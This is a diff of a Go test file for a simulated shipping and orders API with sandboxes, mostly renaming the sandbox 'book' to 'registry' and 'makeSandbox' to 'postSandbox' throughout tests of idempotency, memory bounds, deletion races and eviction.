@@ -13,6 +13,9 @@ import (
 	"errors"
 	"flag"
 	"fmt"
+	"go/ast"
+	"go/parser"
+	"go/token"
 	"io"
 	"log/slog"
 	"maps"
@@ -71,15 +74,19 @@ import (
 //   - auth.go: The journal, its reads, the findings (one table of them), the journal as
 //     HAR.
 //   - auth.go: Sandboxes; main.go: Writes: sandboxes made, refused, forgotten; idempotency;
-//     the book's bounds and the one bounded list; each fault of the books, made
+//     the registry's bounds and the one bounded list; each fault of the registry, made
 //     deterministic (a deadlock, a leak, a late write, a key forgotten in progress).
-//   - auth.go: A booking, a shipment created in a sandbox: each rule both ways, the 502 and
-//     blind_retry, entries judged by the version they read, writes racing reads.
+//   - tracking.go: A booking, a shipment created in a sandbox (its next version built there,
+//     the write by main.go's Writes): each rule both ways, the 502 and blind_retry, entries
+//     judged by the version they read, writes racing reads.
 //   - tracking.go: Normalizing raw carrier events, tracking views, the index, the two
 //     operations.
 //   - orders.go: Loading, the index, the query, pages and the two operations.
 //   - cursor.go: Cursors.
 //   - errors.go: Errors, simulated answers and the floor.
+//   - Conformance: the kit against servers right, broken and hostile: every rule caught
+//     failing by a broken server, the hostile servers that attack it, its reports, check
+//     diff, and the bounds of every function.
 
 // ===== The harness =====
 
@@ -4752,7 +4759,7 @@ func readAnOrder(t *testing.T, base, key string) {
 		defer ts.Close()
 		goTest(t, map[string]string{"setup_test.go": setup, "sandbox_test.go": "package yourpackage\n\nimport (\n\t\"net/http\"\n\t\"testing\"\n)\n" + readAnOrder + parallel.String()},
 			"SANDBOX_URL="+ts.URL+"/v1")
-		if n := e.srv.book.count(time.Now()); n != 0 {
+		if n := e.srv.registry.count(e.srv.now()); n != 0 {
 			t.Errorf("%d sandboxes left after the tests: the setup's cleanup did not forget them", n)
 		}
 		read := e.get(t, "/v1/test_helpers/requests", "sk_test_sync_all")
@@ -7109,7 +7116,7 @@ func TestJournalsShareTheirBound(t *testing.T) {
 	t.Parallel()
 	const bound = 64 << 10
 	e := newEnv(t, envOptions{journalBytes: bound, rate: -1, quiet: true})
-	book := e.srv.book
+	book := e.srv.registry
 	// At least 400 entries, and on until the room left is under half what the journal
 	// holds (a shed frees a quarter, and the ring's empty slots: the room left varies).
 	roomFor := func() int { return int((bound-book.journalTotal.Load())/(entrySlot+64)) + 10 }
@@ -7159,7 +7166,7 @@ func TestJournalMemoryOf40000Tenants(t *testing.T) {
 		reqs = append(reqs, newRequest(http.MethodGet, "/v1/orders?limit=100&created_from=2026-01-01T00:00:00Z", k.key))
 	}
 	per := heapGrowth(t, e.h, len(reqs), 200, func(i int) *http.Request { return reqs[i] }) / n
-	t.Logf("%d bytes a tenant; the book counts %d", per, e.srv.book.journalTotal.Load()/n)
+	t.Logf("%d bytes a tenant; the book counts %d", per, e.srv.registry.journalTotal.Load()/n)
 	if per > 1024 {
 		t.Errorf("a tenant's one journaled request holds %d bytes of heap, want at most 1 KiB", per)
 	}
@@ -7169,7 +7176,7 @@ func TestJournalMemoryOf40000Tenants(t *testing.T) {
 // TestJournalsHoldTheirBoundOnTheHeap: the worst entries for the bytes bound, requests as
 // net/http reads them off a connection with a target and a Prefer near the header limit
 // (each cut in its entry), fill journals bounded at 1 MiB: what the journals keep on the
-// heap stays within the bound, not only by the book's count (a method that pinned the
+// heap stays within the bound, not only by the registry's count (a method that pinned the
 // request line it was cut from held 60 KiB an entry). Not parallel: it measures the heap.
 func TestJournalsHoldTheirBoundOnTheHeap(t *testing.T) {
 	const bound, n = 1 << 20, 3000
@@ -7178,7 +7185,7 @@ func TestJournalsHoldTheirBoundOnTheHeap(t *testing.T) {
 	held := heapGrowth(t, e.h, n, http.StatusUnprocessableEntity, func(i int) *http.Request { // an unknown parameter
 		return readRequest(t, fmt.Sprintf("GET /v1/orders/ord_sbx_0001?pad%d=%s HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nAuthorization: Bearer sk_test_sandbox_all\r\nPrefer: run=\"r%d\", x=%s\r\n\r\n", i, pad, i, pad))
 	})
-	t.Logf("the journals hold %d bytes of heap; the book counts %d", held, e.srv.book.journalTotal.Load())
+	t.Logf("the journals hold %d bytes of heap; the book counts %d", held, e.srv.registry.journalTotal.Load())
 	if got := e.journalOf(t, "sk_test_sandbox_all", "limit=1"); got.LastSeq != n || got.Dropped == 0 {
 		t.Fatalf("last_seq %d, dropped %d: want %d journaled and some dropped", got.LastSeq, got.Dropped, n)
 	}
@@ -8097,9 +8104,9 @@ var (
 	sandboxKeyPattern     = regexp.MustCompile(`^sk_test_[a-z2-7]{32}$`)
 )
 
-// makeSandbox posts body with key under the Idempotency-Key idem ("" for none), and
+// postSandbox posts body with key under the Idempotency-Key idem ("" for none), and
 // returns the reply, and the sandbox when it answered 201.
-func (e *env) makeSandbox(t testing.TB, key, body, idem string, headerPairs ...string) (reply, sandboxOut) {
+func (e *env) postSandbox(t testing.TB, key, body, idem string, headerPairs ...string) (reply, sandboxOut) {
 	t.Helper()
 	headers := append([]string{"Content-Type", "application/json"}, headerPairs...)
 	if idem != "" {
@@ -8132,7 +8139,7 @@ func listIDs(t testing.TB, rep reply) string {
 func TestSandboxes(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1, step: -1})
-	rep, sb := e.makeSandbox(t, "sk_test_sync_all", `{}`, "copy-1")
+	rep, sb := e.postSandbox(t, "sk_test_sync_all", `{}`, "copy-1")
 	if rep.status != 201 || !sandboxAccountPattern.MatchString(sb.Account) || sb.Environment != "test" || sb.Template == nil || *sb.Template != "acct_sync" ||
 		sb.StartedAt != "2026-11-22T12:00:00Z" || sb.IdleSeconds != 3600 || len(sb.Keys) != 1 || !sandboxKeyPattern.MatchString(sb.Keys[0].Key) ||
 		strings.Join(sb.Keys[0].Scopes, " ") != "tracking:read orders:read" || sb.Keys[0].ExpiresAt != nil || sb.Keys[0].Revoked {
@@ -8160,7 +8167,7 @@ func TestSandboxes(t *testing.T) {
 		wantProblem(t, e.get(t, tt.target, tt.key), 404, "not_found", "")
 	}
 	// A template by name: the keys are the template's test keys, in the dataset's order.
-	rep, copyOf := e.makeSandbox(t, "sk_test_sync_all", `{"template":"acct_sandbox"}`, "copy-2")
+	rep, copyOf := e.postSandbox(t, "sk_test_sync_all", `{"template":"acct_sandbox"}`, "copy-2")
 	var states []string
 	for _, k := range copyOf.Keys {
 		exp := "-"
@@ -8182,7 +8189,7 @@ func TestSandboxes(t *testing.T) {
 	body := `{"orders":[{"id":"ord_1","merchant_reference":"R-1","platform":"ebay","status":"unfulfilled","created_at":"start-1h","imported_at":"start+30s"}],` +
 		`"shipments":[{"id":"shp_1","reference":"S-1","tracking_number":"T1","order_id":"ord_1","created_at":"start+60s","events":[{"after":"60s","status":"in_transit","description":"Departed"}]}],` +
 		`"keys":[{"scopes":["orders:read"]},{"scopes":["tracking:read"],"expires_at":"2099-01-01T00:00:00+01:00"}]}`
-	rep, own := e.makeSandbox(t, "sk_test_sandbox_none", body, "records-1")
+	rep, own := e.postSandbox(t, "sk_test_sandbox_none", body, "records-1")
 	if rep.status != 201 || own.Template != nil || len(own.Keys) != 2 || own.Keys[1].ExpiresAt == nil || *own.Keys[1].ExpiresAt != "2098-12-31T23:00:00Z" {
 		t.Fatalf("a sandbox of records: %s", rep)
 	}
@@ -8201,9 +8208,9 @@ func TestSandboxes(t *testing.T) {
 		t.Errorf("the making is journaled in the tenant of the key that made it: %+v", got.Data)
 	}
 	// A sandbox's key makes a sandbox of a template it names, or of records.
-	rep, _ = e.makeSandbox(t, key, `{}`, "from-a-sandbox")
+	rep, _ = e.postSandbox(t, key, `{}`, "from-a-sandbox")
 	wantProblem(t, rep, 422, "invalid_parameter", "template")
-	if rep, again := e.makeSandbox(t, key, `{"template":"acct_sync"}`, "from-a-sandbox-2"); rep.status != 201 || again.Account == sb.Account {
+	if rep, again := e.postSandbox(t, key, `{"template":"acct_sync"}`, "from-a-sandbox-2"); rep.status != 201 || again.Account == sb.Account {
 		t.Errorf("a sandbox's key naming a template: %s", rep)
 	}
 }
@@ -8258,20 +8265,20 @@ func TestSandboxRefusals(t *testing.T) {
 	} {
 		t.Run(caseName(tt.name), func(t *testing.T) {
 			key := cmp.Or(tt.key, "sk_test_sync_all")
-			rep, _ := e.makeSandbox(t, key, tt.body, "refused-"+strings.ReplaceAll(tt.name, " ", "-"))
+			rep, _ := e.postSandbox(t, key, tt.body, "refused-"+strings.ReplaceAll(tt.name, " ", "-"))
 			wantProblem(t, rep, tt.status, tt.code, tt.param)
 		})
 	}
 	rep := e.do(t, newBodyRequest(http.MethodPost, "/v1/test_helpers/sandboxes?x=1", "sk_test_sync_all", `{}`, "Idempotency-Key", "q"))
 	wantProblem(t, rep, 422, "unknown_parameter", "x")
-	rep, _ = e.makeSandbox(t, "sk_test_sync_all", `{"orders":[],"x":"`+strings.Repeat("a", maxBodyBytes)+`"}`, "too-large")
+	rep, _ = e.postSandbox(t, "sk_test_sync_all", `{"orders":[],"x":"`+strings.Repeat("a", maxBodyBytes)+`"}`, "too-large")
 	wantProblem(t, rep, 413, "body_too_large", "")
-	if n := e.srv.book.count(e.clock.now()); n != 0 {
+	if n := e.srv.registry.count(e.clock.now()); n != 0 {
 		t.Errorf("refused bodies made %d sandboxes", n)
 	}
 	// Any active test key, whatever its scopes, makes one; a dataset key names the template
 	// by default, and acct_sandbox, seeded past 10,000, is too large to copy.
-	rep, _ = e.makeSandbox(t, "sk_test_sandbox_none", `{"orders":[]}`, "none-1")
+	rep, _ = e.postSandbox(t, "sk_test_sandbox_none", `{"orders":[]}`, "none-1")
 	if rep.status != 201 {
 		t.Errorf("a key without scopes: %s", rep)
 	}
@@ -8306,7 +8313,7 @@ func TestIdempotencyKeys(t *testing.T) {
 			first.header.Get("Idempotent-Replayed") != "" || again.header.Get("Request-Id") == first.header.Get("Request-Id") {
 			t.Errorf("a repeat: %s, then %s (Idempotent-Replayed %q)", first, again, again.header.Get("Idempotent-Replayed"))
 		}
-		if e.srv.book.count(e.clock.now()) == 0 {
+		if e.srv.registry.count(e.clock.now()) == 0 {
 			t.Fatal("no sandbox made")
 		}
 		// Stored per tenant, not per API key: another key of acct_sync replays it too.
@@ -8379,7 +8386,7 @@ func TestSandboxesInParallel(t *testing.T) {
 	for i, at := range []string{"start+45s", "start+90s"} {
 		t.Run(at, func(t *testing.T) {
 			t.Parallel()
-			_, sb := e.makeSandbox(t, "sk_test_sync_all", `{}`, "parallel-"+at)
+			_, sb := e.postSandbox(t, "sk_test_sync_all", `{}`, "parallel-"+at)
 			key := sb.Keys[0].Key
 			for range 20 {
 				e.setClock(t, key, at)
@@ -8404,8 +8411,8 @@ func TestSandboxesInParallel(t *testing.T) {
 func TestSandboxesAreForgotten(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1, step: -1})
-	_, a := e.makeSandbox(t, "sk_test_sync_all", `{}`, "a")
-	_, b := e.makeSandbox(t, "sk_test_sync_all", `{"orders":[]}`, "b")
+	_, a := e.postSandbox(t, "sk_test_sync_all", `{}`, "a")
+	_, b := e.postSandbox(t, "sk_test_sync_all", `{"orders":[]}`, "b")
 	wantProblem(t, e.do(t, newRequest(http.MethodDelete, "/v1/test_helpers/sandboxes/"+a.Account, b.Keys[0].Key)), 404, "not_found", "")
 	wantProblem(t, e.do(t, newRequest(http.MethodDelete, "/v1/test_helpers/sandboxes/acct_sync", "sk_test_sync_all")), 404, "not_found", "")
 	wantProblem(t, e.do(t, newRequest(http.MethodDelete, "/v1/test_helpers/sandboxes/"+a.Account+"?x", a.Keys[0].Key)), 422, "unknown_parameter", "x")
@@ -8441,19 +8448,19 @@ func TestSandboxesAreForgotten(t *testing.T) {
 	setMaxSandboxes(e, 3)
 	var keys []string
 	for i := range 3 {
-		_, s := e.makeSandbox(t, "sk_test_sync_all", `{"orders":[]}`, fmt.Sprint("lru-", i))
+		_, s := e.postSandbox(t, "sk_test_sync_all", `{"orders":[]}`, fmt.Sprint("lru-", i))
 		keys = append(keys, s.Keys[0].Key)
 		e.clock.advance(time.Second)
 	}
 	e.get(t, "/v1/orders", keys[0]) // the first is used again: the second is the least recently used
 	e.clock.advance(time.Second)
-	e.makeSandbox(t, "sk_test_sync_all", `{"orders":[]}`, "lru-3")
+	e.postSandbox(t, "sk_test_sync_all", `{"orders":[]}`, "lru-3")
 	for i, want := range []int{200, 401, 200} {
 		if rep := e.get(t, "/v1/orders", keys[i]); rep.status != want {
 			t.Errorf("sandbox %d after a fourth past a bound of 3: %d, want %d", i, rep.status, want)
 		}
 	}
-	if n := e.srv.book.count(e.clock.now()); n != 3 {
+	if n := e.srv.registry.count(e.clock.now()); n != 3 {
 		t.Errorf("%d sandboxes kept, want 3", n)
 	}
 }
@@ -8464,9 +8471,9 @@ func TestSandboxesAreForgotten(t *testing.T) {
 func TestCopiesOfOneInstantShareTheirData(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1, step: -1})
-	_, a := e.makeSandbox(t, "sk_test_sync_all", `{}`, "share-a")
+	_, a := e.postSandbox(t, "sk_test_sync_all", `{}`, "share-a")
 	first := sandboxHoldings(e).data
-	_, b := e.makeSandbox(t, "sk_test_sync_all", `{}`, "share-b")
+	_, b := e.postSandbox(t, "sk_test_sync_all", `{}`, "share-b")
 	second := sandboxHoldings(e).data - first
 	ta, tb := sandboxTenant(e, a.Account), sandboxTenant(e, b.Account)
 	if &ta.current().orders.block[0] != &tb.current().orders.block[0] || ta.current().orders.tag == tb.current().orders.tag || second >= first/2 {
@@ -8483,7 +8490,7 @@ func TestCopiesOfOneInstantShareTheirData(t *testing.T) {
 	}
 	// A copy made at another second is built anew, at its own start.
 	e.clock.advance(time.Second)
-	_, c := e.makeSandbox(t, "sk_test_sync_all", `{}`, "share-c")
+	_, c := e.postSandbox(t, "sk_test_sync_all", `{}`, "share-c")
 	if tc := sandboxTenant(e, c.Account); &tc.current().orders.block[0] == &ta.current().orders.block[0] || !tc.start.After(ta.start) {
 		t.Error("a copy of another start instant shares the data of the first")
 	}
@@ -8494,7 +8501,7 @@ func TestCopiesOfOneInstantShareTheirData(t *testing.T) {
 func TestSandboxReplaysTheSyncFindings(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{step: -1, rate: -1})
-	_, sb := e.makeSandbox(t, "sk_test_sync_all", `{}`, "sync")
+	_, sb := e.postSandbox(t, "sk_test_sync_all", `{}`, "sync")
 	for _, key := range []string{"sk_test_sync_all", sb.Keys[0].Key} {
 		wm := "2000-01-01T00:00:00Z"
 		for _, s := range []int{0, 30, 60, 90, 120} {
@@ -8516,7 +8523,7 @@ func TestSandboxReplaysTheSyncFindings(t *testing.T) {
 func TestSandboxKeysAreNeverShown(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1})
-	_, sb := e.makeSandbox(t, "sk_test_sync_all", `{}`, "secret")
+	_, sb := e.postSandbox(t, "sk_test_sync_all", `{}`, "secret")
 	key := sb.Keys[0].Key
 	e.get(t, "/v1/orders", key)
 	e.get(t, "/v1/orders", key, "Prefer", "code=503")
@@ -8578,13 +8585,13 @@ func TestSandboxesUnderRacingRequests(t *testing.T) {
 		}()
 	}
 	wg.Wait()
-	if n := e.srv.book.count(e.clock.now()); n != 0 {
+	if n := e.srv.registry.count(e.clock.now()); n != 0 {
 		t.Errorf("%d sandboxes left after every one was deleted", n)
 	}
 }
 
-// holdings is what the books hold of the sandboxes: how many are kept, and the bytes of
-// their data, journals and stored answers as the books count them (the dataset's tenants
+// holdings is what the registry hold of the sandboxes: how many are kept, and the bytes of
+// their data, journals and stored answers as the registry count them (the dataset's tenants
 // left out).
 type holdings struct {
 	sandboxes               int
@@ -8658,7 +8665,7 @@ func sandboxRecords(n int) string {
 }
 
 // TestForgottenSandboxesHoldNothing: whatever a sandbox did before it was forgotten (by its
-// DELETE, as the least recently used past the bound, or idle for its hour), the books hold
+// DELETE, as the least recently used past the bound, or idle for its hour), the registry hold
 // nothing of it afterwards: no journal, no stored answer, no bytes of data. Its DELETE as
 // its first journaled request opened a journal of its own that nothing freed (0.67 MiB a
 // cycle of a 256 KiB sandbox).
@@ -8687,7 +8694,7 @@ func TestForgottenSandboxesHoldNothing(t *testing.T) {
 			e.get(t, "/v1/orders", key, "Prefer", "code=503; times=1")
 		}, func(t *testing.T, e *env, sb sandboxOut) {
 			setMaxSandboxes(e, 1)
-			_, other := e.makeSandbox(t, "sk_test_sync_all", `{"orders":[]}`, "other")
+			_, other := e.postSandbox(t, "sk_test_sync_all", `{"orders":[]}`, "other")
 			wantProblem(t, e.get(t, "/v1/orders", sb.Keys[0].Key), 401, "invalid_api_key", "")
 			del(t, e, other) // its only request: it leaves nothing either
 		}},
@@ -8699,7 +8706,7 @@ func TestForgottenSandboxesHoldNothing(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
 			e := newEnv(t, envOptions{rate: -1, step: -1, quiet: true})
-			rep, sb := e.makeSandbox(t, "sk_test_sync_all", body, "make")
+			rep, sb := e.postSandbox(t, "sk_test_sync_all", body, "make")
 			if rep.status != 201 {
 				t.Fatalf("the sandbox: %s", rep)
 			}
@@ -8716,7 +8723,7 @@ func TestForgottenSandboxesHoldNothing(t *testing.T) {
 }
 
 // TestLateRequestsOfAForgottenSandbox: a request whose key was checked before its sandbox's
-// DELETE, and whose body comes after the 204, adds nothing to the books: a read's entry is
+// DELETE, and whose body comes after the 204, adds nothing to the registry: a read's entry is
 // not kept, and a booking writes and stores nothing and answers 401 invalid_api_key (it once
 // answered 201 and registered the forgotten store again, 0.85 MiB a cycle).
 func TestLateRequestsOfAForgottenSandbox(t *testing.T) {
@@ -8734,7 +8741,7 @@ func TestLateRequestsOfAForgottenSandbox(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
 			e := newEnv(t, envOptions{rate: -1, step: -1, quiet: true})
-			_, sb := e.makeSandbox(t, "sk_test_sync_all", `{}`, "make")
+			_, sb := e.postSandbox(t, "sk_test_sync_all", `{}`, "make")
 			key := sb.Keys[0].Key
 			late := newPipedRequest(tt.method, tt.target, key, tt.headers...)
 			answer := e.serveAsync(t, late.Request)
@@ -8782,13 +8789,13 @@ func TestAWriteInFlightAcrossItsDelete(t *testing.T) {
 		t.Run(caseName(tt.name), func(t *testing.T) {
 			t.Parallel()
 			e := newEnv(t, envOptions{rate: -1, step: -1, quiet: true})
-			_, kept := e.makeSandbox(t, "sk_test_sync_all", `{}`, "kept")
+			_, kept := e.postSandbox(t, "sk_test_sync_all", `{}`, "kept")
 			if rep := e.do(t, newBodyRequest(http.MethodPost, tt.target, kept.Keys[0].Key, tt.body, "Idempotency-Key", "w")); rep.status != tt.without {
 				t.Fatalf("with its sandbox kept: %s, want %d", rep, tt.without)
 			}
-			_, sb := e.makeSandbox(t, "sk_test_sync_all", `{}`, "gone")
+			_, sb := e.postSandbox(t, "sk_test_sync_all", `{}`, "gone")
 			key := sb.Keys[0].Key
-			e.srv.book.hooks.claimed = func(tn *tenant, _ string) {
+			e.srv.registry.hooks.claimed = func(tn *tenant, _ string) {
 				if tn.id.account == sb.Account {
 					if rep := e.do(t, newRequest(http.MethodDelete, "/v1/test_helpers/sandboxes/"+sb.Account, key)); rep.status != 204 {
 						t.Errorf("the DELETE: %s", rep)
@@ -8807,9 +8814,9 @@ func TestAWriteInFlightAcrossItsDelete(t *testing.T) {
 	}
 	// Its sandbox gone before it claims its key: the write's work never begins.
 	e := newEnv(t, envOptions{rate: -1, step: -1, quiet: true})
-	_, sb := e.makeSandbox(t, "sk_test_sync_all", `{}`, "make")
+	_, sb := e.postSandbox(t, "sk_test_sync_all", `{}`, "make")
 	var begun atomic.Int32
-	e.srv.book.hooks.claimed = func(*tenant, string) { begun.Add(1) }
+	e.srv.registry.hooks.claimed = func(*tenant, string) { begun.Add(1) }
 	late := newPipedRequest(http.MethodPost, "/v1/test_helpers/shipments", sb.Keys[0].Key, "Idempotency-Key", "late", "Content-Type", "application/json")
 	answer := e.serveAsync(t, late.Request)
 	<-late.ready
@@ -8825,17 +8832,17 @@ func TestAWriteInFlightAcrossItsDelete(t *testing.T) {
 
 // TestForgettingRacesAFirstWrite: a sandbox's first write, paused while it holds its
 // tenant's lock to claim its Idempotency-Key, and the sandbox's DELETE, paused holding the
-// book's: both end, the DELETE 204 and the write 401 invalid_api_key, having written
+// registry's: both end, the DELETE 204 and the write 401 invalid_api_key, having written
 // nothing. (Taken in two orders, the two locks once hung the process for good.)
 func TestForgettingRacesAFirstWrite(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1, step: -1, quiet: true})
-	_, sb := e.makeSandbox(t, "sk_test_sync_all", `{}`, "make")
+	_, sb := e.postSandbox(t, "sk_test_sync_all", `{}`, "make")
 	key := sb.Keys[0].Key
 	claiming, release, forgetting := make(chan struct{}), make(chan struct{}), make(chan struct{})
 	var claimed, forgot sync.Once // each pauses its first step only
-	e.srv.book.hooks.claiming = func(*tenant) { claimed.Do(func() { close(claiming); <-release }) }
-	e.srv.book.hooks.forgetting = func(*tenant) { forgot.Do(func() { close(forgetting) }) }
+	e.srv.registry.hooks.claiming = func(*tenant) { claimed.Do(func() { close(claiming); <-release }) }
+	e.srv.registry.hooks.forgetting = func(*tenant) { forgot.Do(func() { close(forgetting) }) }
 	write := e.serveAsync(t, newBodyRequest(http.MethodPost, "/v1/test_helpers/shipments", key, `{"reference":"R","order_id":"ord_sync_0005"}`, "Idempotency-Key", "first"))
 	<-claiming
 	deletion := e.serveAsync(t, newRequest(http.MethodDelete, "/v1/test_helpers/sandboxes/"+sb.Account, key))
@@ -8858,13 +8865,13 @@ func TestForgettingRacesAFirstWrite(t *testing.T) {
 // what the tenant's list of 10,000 keys forgets: its repeat after 10,000 other writes is 409
 // idempotency_key_in_use, not a second write under one key. Once every entry is in progress,
 // the list takes them past its bound, and comes back to it as they end. The writes make
-// sandboxes: the book holds 10,000, and the 10,001st forgets the least recently used.
+// sandboxes: the registry holds 10,000, and the 10,001st forgets the least recently used.
 func TestAKeyInProgressOutlivesTheList(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1, step: -1, quiet: true})
 	held := map[string]chan struct{}{"slow": make(chan struct{}), "p-1": make(chan struct{}), "p-2": make(chan struct{}), "p-3": make(chan struct{})}
 	var paused sync.WaitGroup
-	e.srv.book.hooks.claimed = func(_ *tenant, key string) { // each of these keys waits in progress until released
+	e.srv.registry.hooks.claimed = func(_ *tenant, key string) { // each of these keys waits in progress until released
 		if release, ok := held[key]; ok {
 			paused.Done()
 			<-release
@@ -8879,7 +8886,7 @@ func TestAKeyInProgressOutlivesTheList(t *testing.T) {
 	tenant := e.sb.tenants.byID[tenantID{"acct_other", "test"}]
 	oldest := "" // the key of the sandbox made first, then used least recently
 	for i := range maxStoredAnswers {
-		rep, made := e.makeSandbox(t, "sk_test_other_all", `{"orders":[]}`, fmt.Sprint("other-", i))
+		rep, made := e.postSandbox(t, "sk_test_other_all", `{"orders":[]}`, fmt.Sprint("other-", i))
 		if rep.status != 201 {
 			t.Fatalf("write %d: %s", i, rep)
 		}
@@ -8898,7 +8905,7 @@ func TestAKeyInProgressOutlivesTheList(t *testing.T) {
 	if rep := within(t, "the repeat", send("slow")); rep.status != 201 || rep.header.Get("Idempotent-Replayed") != "true" {
 		t.Errorf("its repeat once done: %s", rep)
 	}
-	if n := e.srv.book.count(e.clock.now()); n != maxSandboxes || maxSandboxes != maxStoredAnswers {
+	if n := e.srv.registry.count(e.clock.now()); n != maxSandboxes || maxSandboxes != maxStoredAnswers {
 		t.Errorf("%d sandboxes kept of %d made, want %d", n, maxStoredAnswers+1, maxSandboxes)
 	}
 	wantProblem(t, e.get(t, "/v1/orders", oldest), 401, "invalid_api_key", "") // the least recently used
@@ -8934,12 +8941,12 @@ func TestCopiesWithinTheirHeap(t *testing.T) {
 	const copies = 2000
 	e := newEnv(t, envOptions{rate: -1, quiet: true, journal: -1, step: time.Microsecond})
 	held := heapGrowth(t, e.h, copies, http.StatusCreated, func(i int) *http.Request {
-		clear(e.srv.book.shared) // as if made at another second: built anew
+		clear(e.srv.registry.shared) // as if made at another second: built anew
 		return newBodyRequest(http.MethodPost, "/v1/test_helpers/sandboxes", "sk_test_sync_all", `{}`, "Idempotency-Key", fmt.Sprint("copy-", i))
 	})
 	t.Logf("%d copies of acct_sync hold %d bytes of heap, %d each", copies, held, held/copies)
-	if n := e.srv.book.count(e.clock.now()); n != copies || len(e.srv.book.shared) != 1 {
-		t.Fatalf("%d sandboxes kept, %d shared data: the arrangement is not %d copies each built anew", n, len(e.srv.book.shared), copies)
+	if n := e.srv.registry.count(e.clock.now()); n != copies || len(e.srv.registry.shared) != 1 {
+		t.Fatalf("%d sandboxes kept, %d shared data: the arrangement is not %d copies each built anew", n, len(e.srv.registry.shared), copies)
 	}
 	if held > copies*(100<<20)/maxSandboxes {
 		t.Errorf("%d copies of acct_sync hold %d bytes of heap, over %d (10,000 within 100 MiB)", copies, held, copies*(100<<20)/maxSandboxes)
@@ -8947,26 +8954,26 @@ func TestCopiesWithinTheirHeap(t *testing.T) {
 }
 
 // TestSharedCopiesAreCountedWhileHeld: copies of one template made in one second share their
-// data, which the book counts once while any copy holds it, whichever copies are forgotten
+// data, which the registry counts once while any copy holds it, whichever copies are forgotten
 // first (once only the first copy counted it, and forgetting it let the others count nothing).
 func TestSharedCopiesAreCountedWhileHeld(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1, step: -1, quiet: true})
 	var copies []sandboxOut
-	var first int64 // what the book counts of the first copy alone
+	var first int64 // what the registry counts of the first copy alone
 	for i := range 3 {
-		_, sb := e.makeSandbox(t, "sk_test_sync_all", `{}`, fmt.Sprint("copy-", i))
+		_, sb := e.postSandbox(t, "sk_test_sync_all", `{}`, fmt.Sprint("copy-", i))
 		copies = append(copies, sb)
 		if i == 0 {
 			first = sandboxHoldings(e).data
 		}
 	}
-	// They share: the book holds one data of the template, held by the three, and counts it
+	// They share: the registry holds one data of the template, held by the three, and counts it
 	// once (three copies built apart would count three times the first).
-	if len(e.srv.book.shared) != 1 {
-		t.Fatalf("the book shares %d data, want the template's one", len(e.srv.book.shared))
+	if len(e.srv.registry.shared) != 1 {
+		t.Fatalf("the book shares %d data, want the template's one", len(e.srv.registry.shared))
 	}
-	for _, sh := range e.srv.book.shared {
+	for _, sh := range e.srv.registry.shared {
 		if sh.holders != 3 {
 			t.Errorf("the shared data has %d holders, want the 3 copies", sh.holders)
 		}
@@ -9040,7 +9047,7 @@ func TestReplaysRaceTheirAnswer(t *testing.T) {
 func TestStoredAnswersWithinTheirBound(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, envOptions{rate: -1, step: -1, quiet: true})
-	_, big := e.makeSandbox(t, "sk_test_sync_all", `{"orders":[]}`, "big")
+	_, big := e.postSandbox(t, "sk_test_sync_all", `{"orders":[]}`, "big")
 	key := big.Keys[0].Key
 	description := strings.Repeat("x", 60000)
 	var events []string
@@ -9066,7 +9073,7 @@ func TestStoredAnswersWithinTheirBound(t *testing.T) {
 	if rep := e.book(t, key, body, "b-0"); rep.status != 201 || rep.header.Get("Idempotent-Replayed") != "" {
 		t.Errorf("the oldest booking's repeat, its answer forgotten: %d, replayed %q, want a new write", rep.status, rep.header.Get("Idempotent-Replayed"))
 	}
-	if rep, _ := e.makeSandbox(t, "sk_test_sync_all", `{"orders":[]}`, "big"); rep.status != 201 || rep.header.Get("Idempotent-Replayed") != "true" {
+	if rep, _ := e.postSandbox(t, "sk_test_sync_all", `{"orders":[]}`, "big"); rep.status != 201 || rep.header.Get("Idempotent-Replayed") != "true" {
 		t.Errorf("another tenant's answer, stored first: %d, replayed %q", rep.status, rep.header.Get("Idempotent-Replayed"))
 	}
 }
@@ -9143,7 +9150,7 @@ func TestLRU(t *testing.T) {
 }
 
 // TestEveryIndexFieldIsCounted: each field of the indexes that holds heap (a slice, a map, a
-// string, one of those within) adds to the bytes the book counts when it holds something, so
+// string, one of those within) adds to the bytes the registry counts when it holds something, so
 // that a field added later cannot escape the sandboxes' bound; the fields that hold none, or
 // hold what another counts, are named with the reason.
 func TestEveryIndexFieldIsCounted(t *testing.T) {
@@ -9235,12 +9242,12 @@ func fill(v reflect.Value) bool {
 	return true
 }
 
-// (What the tests read of the books.)
+// (What the tests read of the registry.)
 
-// sandboxHoldings is what the book holds of the sandboxes: what it counts in all, less what
+// sandboxHoldings is what the registry holds of the sandboxes: what it counts in all, less what
 // the dataset's tenants hold, so that what nothing kept holds shows too.
 func sandboxHoldings(e *env) holdings {
-	b := e.srv.book
+	b := e.srv.registry
 	b.mu.Lock()
 	defer b.mu.Unlock()
 	h := holdings{sandboxes: b.sandboxes.len(), data: b.sandboxes.weight + b.sharedBytes, journals: b.journalTotal.Load(), answers: b.answerTotal.Load()}
@@ -9251,18 +9258,18 @@ func sandboxHoldings(e *env) holdings {
 	return h
 }
 
-// sandboxTenant is the tenant of the sandbox of this account, nil when the book keeps none.
+// sandboxTenant is the tenant of the sandbox of this account, nil when the registry keeps none.
 func sandboxTenant(e *env, account string) *tenant {
-	e.srv.book.mu.Lock()
-	defer e.srv.book.mu.Unlock()
-	t, _ := e.srv.book.sandboxes.peek(account)
+	e.srv.registry.mu.Lock()
+	defer e.srv.registry.mu.Unlock()
+	t, _ := e.srv.registry.sandboxes.peek(account)
 	return t
 }
 
 func setMaxSandboxes(e *env, n int) {
-	e.srv.book.mu.Lock()
-	defer e.srv.book.mu.Unlock()
-	e.srv.book.sandboxes.max = n
+	e.srv.registry.mu.Lock()
+	defer e.srv.registry.mu.Unlock()
+	e.srv.registry.sandboxes.max = n
 }
 
